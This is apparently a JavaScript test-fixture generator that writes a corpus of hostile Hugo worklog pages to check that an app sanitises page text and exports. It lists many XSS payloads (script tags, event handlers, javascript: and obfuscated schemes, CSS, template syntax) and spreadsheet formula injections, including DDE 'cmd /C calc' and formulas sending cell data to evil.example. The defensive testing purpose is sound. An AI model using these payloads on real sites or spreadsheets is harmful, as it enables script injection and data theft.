// The hostile-page corpus: payloads written for these tests (script tags, event handlers,
// unsafe and obfuscated URL schemes, CSS, template syntax, spreadsheet formulas), each put into
// every place where page text lands in the app: the front-matter title and a front-matter key,
// headings, objectives and achievements, every cell of the worklog table (Day, Task, Start Date,
// Completion Date, Reference), every link and image syntax (inline, reference-style, autolink,
// raw `<a>` and `<img>`), a raw HTML block, the date cells whose text ends up in diagnostics, and
// through all of these every export.
//
// One page per payload, so a payload that broke parsing would show as that page's missing tasks.
// Each family is one intern (a Hugo site folder) with one week per payload; the interns'
// manifest names are hostile too (they reach the weeks view, the cohort matrix and the exports).
// A payload that ran would set `window.__pwned` to its id.
//
//   node tests/lib/hostile.mjs --write   # (re)write tests/fixtures/hostile/ from this file
//   node tests/lib/hostile.mjs --check   # exit 1 when the committed corpus differs from this file
//
// The committed copy is what the native test (crates/worklog/tests/hostile.rs) reads; the browser
// test (tests/e2e/hostile.test.mjs) checks that it is up to date, then loads it.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
export const HOSTILE_DIR = path.join(ROOT, 'tests', 'fixtures', 'hostile');

/** What a payload that ran would do (the string is the payload's id). */
const pwn = (id) => `window.__pwned='${id}'`;

/**
 * Payload families: `[family, intern folder, intern display name, [[id, text, url?], ...]]`.
 * `url` is what the page's link slots point at: the payload itself for URL payloads, otherwise a
 * `javascript:` URL (so every page also has unsafe links to drop).
 */
const FAMILIES = [
  ['script', 'script-tags', `<script>${pwn('intern-script')}</script>`, [
    ['s01', `<script>${pwn('s01')}</script>`],
    ['s02', `<SCRIPT>${pwn('s02')}</SCRIPT>`],
    ['s03', `<script src="data:text/javascript,${pwn('s03')}"></script>`],
    ['s04', `<script/x>${pwn('s04')}</script>`],
    ['s05', `<scr<script>ipt>${pwn('s05')}</scr</script>ipt>`],
    ['s06', `"><script>${pwn('s06')}</script>`],
    ['s07', `'><script>${pwn('s07')}</script><'`],
    ['s08', `</textarea><script>${pwn('s08')}</script>`],
    ['s09', `</title></style></noscript><script>${pwn('s09')}</script>`],
    ['s10', `<!--<script>${pwn('s10')}</script>-->`],
    ['s11', `<script type="module">${pwn('s11')}</script>`],
    ['s12', `<noscript><p title="</noscript><img src=x onerror=${pwn('s12')}>">`],
  ]],
  ['img', 'img-onerror', `<img src=x onerror="${pwn('intern-img')}">`, [
    ['i01', `<img src=x onerror=${pwn('i01')}>`],
    ['i02', `<img src="x" onerror="${pwn('i02')}">`],
    ['i03', `<IMG SRC=x ONERROR="${pwn('i03')}">`],
    ['i04', `<img/src=x/onerror=${pwn('i04')}>`],
    ['i05', `<img src="javascript:${pwn('i05')}">`, `javascript:${pwn('i05')}`],
    ['i06', `<img src=x onerror=&#119;indow.__pwned='i06'>`],
    ['i07', `<img srcset="x 1x" onerror="${pwn('i07')}">`],
    ['i08', `![alt" onerror="${pwn('i08')}](x" onerror="${pwn('i08')})`],
    ['i09', `<picture><source srcset=x onerror="${pwn('i09')}"><img src=x></picture>`],
    ['i10', `<image src=x onerror=${pwn('i10')}>`],
  ]],
  ['svg', 'svg-mathml', 'svg onload', [
    ['v01', `<svg onload=${pwn('v01')}>`],
    ['v02', `<svg><script>${pwn('v02')}</script></svg>`],
    ['v03', `<svg><animate onbegin="${pwn('v03')}" attributeName=x dur=1s>`],
    ['v04', `<svg><a xlink:href="javascript:${pwn('v04')}"><text x=20 y=20>click</text></a></svg>`, `javascript:${pwn('v04')}`],
    ['v05', `<svg><foreignObject><iframe srcdoc="<script>${pwn('v05')}</script>"></iframe></foreignObject></svg>`],
    ['v06', `<math><mtext><table><mglyph><style><img src=x onerror="${pwn('v06')}">`],
    ['v07', `<svg><set attributeName=onmouseover to="${pwn('v07')}"/></svg>`],
    ['v08', `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${pwn('v08')}'/></svg>#x"/></svg>`],
  ]],
  ['frame', 'frames-objects', '<iframe src="javascript:parent.__pwned=1">', [
    ['f01', `<iframe src="javascript:parent.__pwned='f01'"></iframe>`, `javascript:parent.__pwned='f01'`],
    ['f02', `<iframe srcdoc="<script>parent.__pwned='f02'</script>"></iframe>`],
    ['f03', `<object data="javascript:${pwn('f03')}"></object>`, `javascript:${pwn('f03')}`],
    ['f04', `<embed src="data:text/html,<script>parent.__pwned='f04'</script>">`, `data:text/html,<script>parent.__pwned='f04'</script>`],
    ['f05', `<frameset onload=${pwn('f05')}><frame src=x></frameset>`],
    ['f06', `<base href="javascript:${pwn('f06')}//">`],
    ['f07', `<meta http-equiv="refresh" content="0;url=javascript:${pwn('f07')}">`],
    ['f08', `<form action="javascript:${pwn('f08')}"><button>go</button></form>`, `javascript:${pwn('f08')}`],
  ]],
  ['handler', 'event-handlers', '" onmouseover="window.__pwned=1" x="', [
    ['h01', `<body onload=${pwn('h01')}>`],
    ['h02', `<div onmouseover="${pwn('h02')}">hover me</div>`],
    ['h03', `<a onclick="${pwn('h03')}">click me</a>`],
    ['h04', `<input autofocus onfocus="${pwn('h04')}">`],
    ['h05', `<details open ontoggle="${pwn('h05')}">x</details>`],
    ['h06', `<video><source onerror="${pwn('h06')}"></video>`],
    ['h07', `<audio src=x onerror=${pwn('h07')}>`],
    ['h08', `<marquee onstart="${pwn('h08')}">x</marquee>`],
    ['h09', `<select autofocus onfocus=${pwn('h09')}></select>`],
    ['h10', `" onmouseover="${pwn('h10')}" x="`],
    ['h11', `' autofocus onfocus='${pwn('h11')}' x='`],
    ['h12', `<div tabindex=0 onfocusin="${pwn('h12')}" autofocus>x</div>`],
  ]],
  ['url', 'unsafe-schemes', 'javascript:window.__pwned=1', [
    ['u01', `javascript:${pwn('u01')}`],
    ['u02', `JaVaScRiPt:${pwn('u02')}`],
    ['u03', `javascript://%0a${pwn('u03')}`],
    ['u04', `javascript:void(${pwn('u04')})`],
    ['u05', `data:text/html,<script>${pwn('u05')}</script>`],
    ['u06', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0ndTA2Jzwvc2NyaXB0Pg=='],
    ['u07', `DATA:text/html,<script>${pwn('u07')}</script>`],
    ['u08', `data:image/svg+xml,<svg onload="${pwn('u08')}">`],
    ['u09', `data:application/javascript,${pwn('u09')}`],
    ['u10', 'vbscript:msgbox("u10")'],
    ['u11', 'VBScript:Execute("u10")'],
    ['u12', `livescript:${pwn('u12')}`],
    ['u13', 'file:///etc/passwd'],
    ['u14', `jar:javascript:${pwn('u14')}!/`],
  ].map(([id, text]) => [id, text, text])],
  ['obfuscated', 'obfuscated-schemes', 'jav&#x09;ascript:', [
    ['o01', `jav&#x09;ascript:${pwn('o01')}`],
    ['o02', `jav&#x0A;ascript:${pwn('o02')}`],
    ['o03', `jav&#x0D;ascript:${pwn('o03')}`],
    ['o04', `&#106;avascript:${pwn('o04')}`],
    ['o05', `&#0000106&#0000097vascript:${pwn('o05')}`],
    ['o06', `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${pwn('o06')}`],
    ['o07', `javascript&colon;${pwn('o07')}`],
    ['o08', `javascript&#58;${pwn('o08')}`],
    ['o09', `ｊａｖａｓｃｒｉｐｔ:${pwn('o09')}`],
    ['o10', `java\u200bscript:${pwn('o10')}`],
    ['o11', `java\u200dscript:${pwn('o11')}`],
    ['o12', `\ufeffjavascript:${pwn('o12')}`],
    ['o13', `javascript\u00ad:${pwn('o13')}`],
    ['o14', `jAvAsCrIpT:${pwn('o14')}`],
    ['o15', `   javascript:${pwn('o15')}`],
    ['o16', `\u0001\u0002javascript:${pwn('o16')}`],
    ['o17', `&#x20;&#x09;javascript:${pwn('o17')}`],
    ['o18', `&Tab;javascript&NewLine;:${pwn('o18')}`],
    ['o19', `java&#x0;script:${pwn('o19')}`],
    ['o20', `%6Aavascript:${pwn('o20')}`],
    ['o21', `vbs&#99;ript:msgbox("o21")`],
    ['o22', `d&#97;ta:text/html,<script>${pwn('o22')}</script>`],
    ['o23', `\u2028javascript:${pwn('o23')}`],
    ['o24', `j\u0430vascript:${pwn('o24')}`],
  ].map(([id, text]) => [id, text, text])],
  ['css', 'css-style', '<style>*{color:red}</style>', [
    ['c01', `<style>body{background:url("javascript:${pwn('c01')}")}</style>`],
    ['c02', `<div style="width:expression(${pwn('c02')})">x</div>`],
    ['c03', `<style>@import 'javascript:${pwn('c03')}';</style>`],
    ['c04', `<link rel=stylesheet href="javascript:${pwn('c04')}">`],
    ['c05', `<p style="background-image:url(javascript:${pwn('c05')})">x</p>`],
    ['c06', `<style>*{x:expression(${pwn('c06')})}</style>`],
    ['c07', `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${pwn('c07')}">x</p>`],
    ['c08', `<div style="behavior:url(#default#time2)" onbegin="${pwn('c08')}">x</div>`],
  ]],
  ['template', 'template-syntax', '{{constructor.constructor("window.__pwned=1")()}}', [
    ['t01', `{{constructor.constructor("${pwn('t01')}")()}}`],
    ['t02', `\${${pwn('t02')}}`],
    ['t03', '{{7*7}} and ${7*7}'],
    ['t04', '<%= 7*7 %>'],
    ['t05', '#{7*7}'],
    ['t06', '{% raw %}{{ 7*7 }}{% endraw %}'],
    ['t07', '[[${7*7}]]'],
    ['t08', '{{< shortcode >}} {{% notice %}}'],
    ['t09', '{{ .Site.Params.secret }}'],
    ['t10', `{{{html}}} <div v-html="'<img src=x onerror=${pwn('t10')}>'"></div>`],
    ['t11', `\`<script>${pwn('t11')}</script>\``],
  ]],
  ['markdown', 'markdown-links', '[click](javascript:window.__pwned=1)', [
    ['m01', `[click](javascript:${pwn('m01')})`],
    ['m02', `[click](<javascript:${pwn('m02')}>)`],
    ['m03', `[click](javascript:${pwn('m03')} "title")`],
    ['m04', `<javascript:${pwn('m04')}>`],
    ['m05', `![image](javascript:${pwn('m05')})`],
    ['m06', `[[nested](javascript:${pwn('m06')})](https://docs.aws.amazon.com/)`],
    ['m07', `[a](https://docs.aws.amazon.com/"onmouseover="${pwn('m07')})`],
    ['m08', `<a href="javascript:${pwn('m08')}">a</a>`],
    ['m09', `[x](j&#97;vascript:${pwn('m09')})`],
  ].map(([id, text]) => [id, text, `javascript:${pwn(id)}`])],
  ['formula', '=cmd-formulas', '=HYPERLINK("https://evil.example/?intern","intern")', [
    ['x01', '=HYPERLINK("https://evil.example/?leak="&A1,"click")'],
    ['x02', '=1+1'],
    ['x03', "+cmd|' /C calc'!A0"],
    ['x04', '-2+3'],
    ['x05', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['x06', '\t=1+2'],
    ['x07', '&#13;=1+3'],
    ['x08', "=cmd|' /C notepad'!'A1'"],
    ['x09', '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")'],
    ['x10', '=WEBSERVICE("https://evil.example/")'],
    ['x11', '＝1+4'],
    ['x12', 'Learn S3;=HYPERLINK("https://evil.example/","semicolon")'],
    ['x13', 'DDE("cmd";"/C calc";"!A0")A0'],
    ['x14', '+1-1'],
    ['x15', '@A1'],
    ['x16', '&#9;-1+5'],
    ['x17', '＠SUM(A1)'],
    ['x18', 'EC2; +cmd and -1'],
  ]],
];

/** Every payload: `{id, family, text, url}`. */
export const PAYLOADS = FAMILIES.flatMap(([family, , , list]) => list.map(([id, text, url]) => ({
  id, family, text, url: url ?? `javascript:${pwn(id)}`,
})));

/** A YAML single-quoted scalar (quotes doubled). */
const yaml = (text) => `'${text.replaceAll("'", "''")}'`;

/** Text for one table cell: no cell break, no line break. */
const cell = (text) => text.replaceAll('|', '\\|').replace(/[\r\n]+/g, ' ');

/** A link destination: the pointy form when the URL has spaces or parentheses. */
const dest = (url) => (/[\s()]/.test(url) && !/[<>]/.test(url) ? `<${url}>` : url);

/** A payload in an HTML attribute value (double-quoted). */
const attr = (text) => text.replaceAll('"', '&quot;');

/** `YYYY-MM-DD` of the `day`-th weekday (0 = Monday) of week `week` (week 1 starts 2025-09-08). */
function date(week, day) {
  const d = new Date(Date.UTC(2025, 8, 8 + 7 * (week - 1) + day));
  return d.toISOString().slice(0, 10);
}

/**
 * The page of payload `p` as week `week`, and how many tasks it has (one per table row: the
 * generator's count, not the parser's). A row shared word for word by every page makes the
 * similar-rows comparison reachable with a payload in it.
 */
function page(p, week) {
  const t = p.text;
  const u = p.url;
  const rows = [
    ['2', `- ${t} <br> - [inline ${t}](${dest(u)})`, date(week, 0), date(week, 0), `[ref ${t}](${dest(u)})`],
    ['3', `- Learn EC2 with [reference style][r-${p.id}] and <${u.replace(/[\s<>]/g, '')}>`, date(week, 1), date(week, 1), `<a href="${attr(u)}" onclick="${pwn(`${p.id}-a`)}">a ${t}</a>`],
    [t, `- Create an S3 bucket <img src=x onerror="window.__pwned='similar'"> and upload the weekly report files to it`, date(week, 2), date(week, 2), `![img ${t}](${dest(u)}) <img src="${attr(u)}" onerror="${pwn(`${p.id}-img`)}">`],
    ['5', `- Review the week (${t})`, t, t, `[ref style][r-${p.id}] ${t}`],
    ['6', `- Learn Amazon S3 storage classes ${t}`, date(week, 4), date(week, 4), 'https://docs.aws.amazon.com/s3/'],
  ];
  const table = rows.map((r) => `| ${r.map(cell).join(' | ')} |`).join('\n');
  const contents = `---
title: ${yaml(`Week ${week}: ${t}`)}
date: ${date(week, 0)}
weight: ${week}
${yaml(t)}: ${yaml(t)}
---
# ${t}

### Week ${week} Objectives: ${t}

* ${t}
* [objective ${t}](${dest(u)})
* <a href="${attr(u)}">raw link ${t}</a> and <img src="${attr(u)}" onerror="${pwn(`${p.id}-obj`)}">

### Tasks to be carried out this week:
| Day | Task | Start Date | Completion Date | Reference Material |
| --- | --- | --- | --- | --- |
${table}

[r-${p.id}]: ${dest(u)}

### Week ${week} Achievements: ${t}

* ${t}
* Finished the lab ${t}

${t}
`;
  return { contents, tasks: rows.length };
}

/**
 * The corpus: `files` (`{path, contents}`, paths relative to the fixture folder), the site
 * `manifest` naming each family's intern, and `expected` (payload count, tasks per page).
 */
export function hostileCorpus() {
  const files = [];
  const interns = [];
  const pages = {};
  for (const [family, folder, name, list] of FAMILIES) {
    const paths = [];
    list.forEach(([id], i) => {
      const p = PAYLOADS.find((x) => x.id === id);
      const week = i + 1;
      const rel = `${folder}/content/1-Worklog/1.${week}-Week${week}/_index.md`;
      const { contents, tasks } = page(p, week);
      files.push({ path: rel, contents });
      paths.push(rel);
      pages[rel] = { payload: id, family, tasks };
    });
    interns.push({ key: folder, name, files: paths });
  }
  const manifest = { schema: 2, interns };
  const expected = { payloads: PAYLOADS.length, pages };
  return { files, manifest, expected };
}

/** The corpus as the committed folder holds it: every file's path and exact contents. */
function corpusFiles() {
  const { files, manifest, expected } = hostileCorpus();
  return [
    ...files,
    { path: 'index.json', contents: `${JSON.stringify(manifest, null, 2)}\n` },
    { path: 'expected.json', contents: `${JSON.stringify(expected, null, 2)}\n` },
  ];
}

/** Paths (relative) whose committed contents differ from the generator's, or are missing. */
export function staleFiles(dir = HOSTILE_DIR) {
  return corpusFiles().filter(({ path: rel, contents }) => {
    const file = path.join(dir, rel);
    return !fs.existsSync(file) || fs.readFileSync(file, 'utf8') !== contents;
  }).map((f) => f.path);
}

function write(dir = HOSTILE_DIR) {
  fs.rmSync(dir, { recursive: true, force: true });
  for (const { path: rel, contents } of corpusFiles()) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), contents);
  }
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  if (process.argv.includes('--write')) {
    write();
    console.log(`wrote ${PAYLOADS.length} payloads in ${hostileCorpus().files.length} pages to ${path.relative(ROOT, HOSTILE_DIR)}/`);
  } else if (process.argv.includes('--check')) {
    const stale = staleFiles();
    if (stale.length) {
      console.error(`stale hostile corpus (run node tests/lib/hostile.mjs --write): ${stale.join(', ')}`);
      process.exit(1);
    }
    console.log(`hostile corpus up to date: ${PAYLOADS.length} payloads`);
  } else {
    console.error('usage: node tests/lib/hostile.mjs --write | --check');
    process.exit(2);
  }
}
